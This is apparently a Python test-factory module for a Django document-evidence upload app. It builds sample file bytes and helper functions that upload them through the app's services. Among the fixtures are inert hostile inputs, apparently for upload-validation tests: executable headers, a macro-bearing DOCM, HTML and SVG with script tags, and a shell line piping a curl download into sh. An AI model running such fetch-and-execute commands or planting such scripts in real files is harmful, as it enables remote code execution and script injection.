"""Evidence factories: sample bytes of each format, and uploads through the real services."""

from __future__ import annotations

import io
import zipfile

from django.contrib.auth.models import User

from theodoi.accounts.models import Role
from theodoi.evidence.models import Evidence
from theodoi.evidence.services import evidence_add_document, evidence_add_file
from theodoi.plans.models import Plan
from theodoi.tracking.models import ProgressReport, TargetValue, TaskStatus
from theodoi.tracking.services import report_submit
from theodoi.units.models import Commune, Unit

from ..factories import make_user, unit_of
from ..tracking_factories import make_report, task_of


def pdf_bytes(text: str = "Biên bản nghiệm thu") -> bytes:
    """A small PDF; different ``text`` gives different bytes (and SHA-256)."""
    return b"%PDF-1.7\n1 0 obj <<>> endobj\n% " + text.encode() + b"\n%%EOF\n"


def _zip(names: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in names.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bytes() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document><w:body><w:p>Bao cao</w:p></w:body></w:document>",
        }
    )


def xlsx_bytes() -> bytes:
    return _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})


def docm_bytes() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": b"\x00macro",
        }
    )


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 32
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'


def staff_of(commune: Commune, unit_name: str, username: str) -> User:
    """A unit staff member (cán bộ đơn vị) of ``unit_name``."""
    user = make_user(
        username, role=Role.UNIT_STAFF, commune=commune, unit=unit_of(commune, unit_name)
    )
    assert isinstance(user, User)
    return user


def add_file(
    user: User,
    *,
    report: ProgressReport | None = None,
    target_value: TargetValue | None = None,
    data: bytes | None = None,
    name: str = "bien-ban.pdf",
    unit: Unit | None = None,
) -> Evidence:
    owner = report or target_value
    assert owner is not None
    data = pdf_bytes() if data is None else data
    return evidence_add_file(
        report=report,
        target_value=target_value,
        unit=unit or owner.unit,
        user=user,
        filename=name,
        fileobj=io.BytesIO(data),
        size=len(data),
    )


def add_document(
    user: User,
    *,
    report: ProgressReport | None = None,
    target_value: TargetValue | None = None,
    reference: str = "466/PVHXH - 15/03/2026: V/v triển khai số hóa hồ sơ",
) -> Evidence:
    owner = report or target_value
    assert owner is not None
    return evidence_add_document(
        report=report, target_value=target_value, unit=owner.unit, user=user, reference=reference
    )


def sent_completion(plan: Plan, unit: Unit, user: User, *, data: bytes | None = None) -> Evidence:
    """Task I.1.1 reported as completed with one file, sent straight to the office."""
    if plan.requires_head_confirmation:
        plan.requires_head_confirmation = False
        plan.save(update_fields=["requires_head_confirmation"])
    report = make_report(
        task_of(plan, "I.1.1"), unit, user, status=TaskStatus.COMPLETED, percent=100
    )
    evidence = add_file(user, report=report, data=data)
    report_submit(report=report, user=user, version=report.version)
    evidence.refresh_from_db()
    return evidence


def heic_bytes(color: str = "red") -> bytes:
    """A real (tiny) HEIC photo, as an iPhone camera saves it."""
    import pillow_heif
    from PIL import Image

    buffer = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (16, 16), color)).save(buffer, format="HEIF")
    return buffer.getvalue()


def ole2_bytes(*streams: str) -> bytes:
    """The start of a Word/Excel 97-2003 compound file naming ``streams`` in its directory."""
    directory = b"".join(name.encode("utf-16-le").ljust(128, b"\x00") for name in streams)
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + directory
